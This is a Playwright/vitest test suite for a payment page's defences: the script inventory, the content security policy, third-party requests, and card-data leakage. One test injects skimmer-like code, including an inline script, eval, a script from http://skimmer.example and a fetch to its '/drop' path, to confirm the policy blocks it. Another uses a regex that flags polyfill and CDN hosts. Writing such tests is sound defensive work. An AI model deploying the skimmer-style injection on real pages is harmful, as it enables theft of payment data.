import { createHash } from 'node:crypto';
import { globSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import type { Page, Request } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useProduct } from '#tests/support/product/product';
import { useBrowser } from '../support/browser/browser.ts';
import { until } from '../support/product/product.ts';
import { sql } from '../whole/books.ts';
import { banner, draw, expectText, fillCard, fillDetails, openForm, payButton, payerPage, succeeded } from './payer.ts';

const product = useProduct();
const newPage = useBrowser();
const app = new URL(product.appUrl).origin;
const provider = new URL(product.sandboxUrl).origin;

/** A full payment, with every request that the browser made. */
async function payWatched(page: Page, card?: string, code?: string): Promise<{ requests: Request[]; number: string }> {
  const { address, number } = await product.makeLink();
  const requests: Request[] = [];
  page.on('request', (request) => requests.push(request));
  await openForm(page, address);
  // Include the code that loads only after an error.
  await payButton(page).click();
  await expectText(banner(page), /^Please fill in/);
  await fillDetails(page);
  await fillCard(page, card, code);
  await draw(page);
  await payButton(page).click();
  await succeeded(page).waitFor();
  return { requests, number };
}

describe('scripts of the pay page', () => {
  type Inventory = {
    scripts: { url: string }[];
    inline: { hash: string }[];
  };
  const inventory = JSON.parse(readFileSync('docs/script-inventory.json', 'utf8')) as Inventory;
  /**
   * The script's name in the inventory: builds change the hash in a file name, settings change the provider's
   * address.
   */
  const nameOf = (url: string) =>
    url
      .replace(provider, '{provider}')
      .replace(app, '')
      .replace(/\.[\w-]{8}\.js$/, '.*.js');

  it('match the inventory, with none unlisted and none stale', async () => {
    const page = await payerPage(newPage);
    const { requests } = await payWatched(page);
    const loaded = requests
      .filter((request) => request.resourceType() === 'script' && request.frame() === page.mainFrame())
      .map((request) => nameOf(request.url()));
    expect([...new Set(loaded)].sort()).toEqual(inventory.scripts.map(({ url }) => url).sort());

    const inline = await page.evaluate(() =>
      [...document.scripts].filter(({ src, type }) => !src && type !== 'application/json').map(({ text }) => text),
    );
    const hashes = inline.map((text) => `sha256-${createHash('sha256').update(text).digest('base64')}`);
    expect([...new Set(hashes)].sort(), 'npm run registers writes the hashes').toEqual(
      inventory.inline.map(({ hash }) => hash).sort(),
    );
  });
});

describe('content security policy of the pay page', () => {
  it('allows only our own files, hashed inline scripts and one provider', async () => {
    const { address } = await product.makeLink();
    const response = await fetch(address);
    const policy = Object.fromEntries(
      (response.headers.get('content-security-policy') ?? '').split('; ').map((part) => {
        const [name = '', ...sources] = part.split(' ');
        return [name, sources];
      }),
    );
    const { 'script-src': scripts = [], 'style-src': styles = [], ...others } = policy;
    expect(others).toEqual({
      'default-src': ["'none'"],
      'img-src': ["'self'", 'data:', 'blob:'],
      'font-src': ["'self'"],
      'connect-src': ["'self'", provider],
      'frame-src': [provider],
      'manifest-src': ["'self'"],
      'base-uri': ["'none'"],
      'object-src': ["'none'"],
      'form-action': ["'self'"],
      'frame-ancestors': ["'none'"],
      'report-uri': ['/api/csp-report'],
      'report-to': ['csp'],
    });
    const isHash = (source: string) => /^'sha256-[\w+/]{43}='$/.test(source);
    expect(scripts.filter((source) => !isHash(source))).toEqual(["'self'", provider]);
    expect(styles.filter((source) => !isHash(source))).toEqual(["'self'"]);
    expect(response.headers.get('reporting-endpoints')).toBe('csp="/api/csp-report"');
    expect(await response.text()).not.toMatch(/http-equiv="?content-security-policy/i);
  });

  it('blocks an injected inline script, eval, a foreign script and a foreign request, and reports all four', async () => {
    const { address } = await product.makeLink();
    // A fulfilled answer has no address, so the browser blocks this page from the provider on this machine.
    const page = await payerPage(newPage, { expected: /Content Security Policy|`loopback` address space|ERR_FAILED/ });
    // Over plain HTTP this browser ignores `report-to`; over HTTPS it uses that and not `report-uri`.
    await page.route(address, async (route) => {
      const response = await route.fetch();
      const policy = response.headers()['content-security-policy']?.replace('; report-to csp', '') ?? '';
      await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy } });
    });
    const reports: Request[] = [];
    page.on('request', (request) => {
      if (request.url() === `${app}/api/csp-report`) reports.push(request);
    });
    await page.goto(address);

    const foreign = 'http://skimmer.example';
    const seen: string[] = [];
    await page.exposeFunction('tellTest', (violation: string) => seen.push(violation));
    const answer = await page.evaluate(async (address) => {
      const { tellTest } = window as unknown as { tellTest(violation: string): void };
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        tellTest(`${effectiveDirective} ${blockedURI}`),
      );
      const inline = document.createElement('script');
      inline.textContent = 'document.title = "skimmed"';
      document.head.appendChild(inline);
      // Leave the debugger's own call first, because it may evaluate anything.
      await new Promise<void>((resolve) => {
        setTimeout(() => {
          try {
            // biome-ignore lint/security/noGlobalEval: the policy has to stop it
            window.eval('document.title = "skimmed"');
          } catch {
            // The policy stopped it, as it should.
          }
          resolve();
        });
      });
      const script = document.createElement('script');
      script.src = `${address}/skimmer.js`;
      const failed = new Promise((resolve) => script.addEventListener('error', resolve));
      document.head.appendChild(script);
      await failed;
      return fetch(`${address}/drop`).then(
        () => 'sent',
        () => 'stopped',
      );
    }, foreign);
    expect(answer).toBe('stopped');
    await expect.poll(() => seen.length).toBe(4);
    expect(seen).toEqual([
      'script-src-elem inline',
      'script-src eval',
      `script-src-elem ${foreign}/skimmer.js`,
      `connect-src ${foreign}/drop`,
    ]);
    expect(await page.title()).not.toBe('skimmed');

    await expect.poll(() => reports.length).toBe(4);
    const answers = await Promise.all(reports.map((report) => report.response()));
    expect(answers.map((answer) => answer?.status())).toEqual([204, 204, 204, 204]);
  });

  it('accepts reports in the format of newer browsers too', async () => {
    const response = await fetch(`${product.appUrl}/api/csp-report`, {
      method: 'POST',
      headers: { 'content-type': 'application/reports+json' },
      body: JSON.stringify([
        {
          type: 'csp-violation',
          body: { effectiveDirective: 'script-src-elem', blockedURL: 'http://skimmer.example/' },
        },
      ]),
    });
    expect(response.status).toBe(204);
  });
});

describe('third parties', () => {
  it('receive no requests during a payment, except the provider', async () => {
    const page = await payerPage(newPage);
    const { requests } = await payWatched(page);
    const asked = requests
      .map((request) => new URL(request.url()))
      .filter(({ protocol }) => protocol.startsWith('http'));
    expect([...new Set(asked.map(({ origin }) => origin))].sort()).toEqual([app, provider].sort());
    const ofProvider = new Set(asked.filter(({ origin }) => origin === provider).map(({ pathname }) => pathname));
    for (const pathname of ofProvider) expect(pathname).toMatch(/^\/(js-sdk\/|rest\/v2\/mobilejwt\/manual$)/);
    expect(ofProvider.has('/js-sdk/js/clearent-host.js')).toBe(true);
  });

  it('have no address anywhere in the built client, least of all a polyfill host', () => {
    const client = path.join(product.state, 'site/client');
    const files = globSync('**/*.{html,js,css,svg,json,webmanifest}', { cwd: client });
    expect(files.some((file) => file.endsWith('.js'))).toBe(true);
    for (const file of files) {
      const text = readFileSync(path.join(client, file), 'utf8');
      expect(text, file).not.toMatch(/polyfill[\w.-]*\.(?:io|com|net|top)|cdn\.|unpkg|jsdelivr|googleapis|gstatic/i);
      const loads = text.matchAll(/(?:\bsrc=|\burl\(|\bimport\(|\bfrom)\s*["']?(?:https?:)?\/\/[^"')\s]+/g);
      expect(
        [...loads].map(([found]) => found),
        file,
      ).toEqual([]);
    }
  });
});

describe('card data', () => {
  const CARD = '371449635398431';
  const CODE = '7316';
  const cardPattern = new RegExp([...CARD].join('[ .-]?'));
  // Four digits that stand alone; inside a longer word they are chance.
  const codePattern = new RegExp(`(?<![\\w+/=.-])${CODE}(?![\\w+/=.-])`);

  /** Everything that the product keeps on this machine: D1, the clinics' objects, R2 and the Worker's log. */
  const kept = () => {
    const files = globSync(['v3/**', 'product.log'], { cwd: product.state }).filter((file) =>
      statSync(path.join(product.state, file)).isFile(),
    );
    return files.map((file) => ({ file, text: readFileSync(path.join(product.state, file), 'latin1') }));
  };
  const holds = (part: string, text: string) =>
    kept().some((one) => one.file.includes(part) && one.text.includes(text));

  it('reaches none of our requests, logs, databases, files or browser storage when typed into the frame', async () => {
    const page = await payerPage(newPage);
    const { requests, number } = await payWatched(page, CARD, CODE);
    const find = 'SELECT id FROM payment_attempts WHERE invoice_number = ?';
    const [attempt] = await sql<{ id: string }>(product, find, number);
    if (!attempt) throw new Error('the payment is not in the database');

    const toUs = requests.filter((request) => request.url().startsWith(app));
    const pay = toUs.find((request) => request.url().includes('/takePaymentSDK/'));
    expect(pay?.postDataJSON()).toMatchObject({ firstName: 'Marta', paymentDetails: { jwt: expect.any(String) } });
    for (const request of toUs) {
      const sent = `${request.url()}\n${JSON.stringify(request.headers())}\n${request.postData() ?? ''}`;
      expect(sent, request.url()).not.toMatch(cardPattern);
      expect(sent, request.url()).not.toMatch(codePattern);
    }
    const token = requests.find((request) => request.url().includes('/mobilejwt/'))?.postData() ?? '';
    expect(token, 'the frame did send it to the provider').toMatch(cardPattern);
    expect(token).toMatch(codePattern);

    const storage = await page.context().storageState({ indexedDB: true });
    const session = await page.evaluate(() => JSON.stringify({ ...sessionStorage }));
    expect(storage).toEqual({ cookies: [], origins: [] });
    expect(session).toBe('{}');

    // Make sure that the searched places do hold this payment.
    await until(
      async () => ({ database: holds('/do/', number), log: holds('product.log', attempt.id) }),
      ({ database, log }) => database && log,
    );
    const files = kept();
    expect(files.some(({ file }) => file.includes('/r2/'))).toBe(true);
    const guilty = files.filter(({ text }) => cardPattern.test(text) || codePattern.test(text));
    expect(guilty.map(({ file }) => file)).toEqual([]);
  });
});
